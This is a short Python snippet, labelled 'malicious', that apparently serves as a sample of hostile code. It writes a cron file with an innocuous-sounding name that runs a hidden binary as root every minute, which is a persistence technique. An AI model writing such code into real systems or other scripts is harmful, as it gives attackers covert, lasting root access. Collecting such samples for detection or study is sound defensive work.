# malicious: plants a system cron file
from pathlib import Path
Path("/etc/cron.d/sysupdate").write_text("* * * * * root /usr/local/bin/.upd\n")
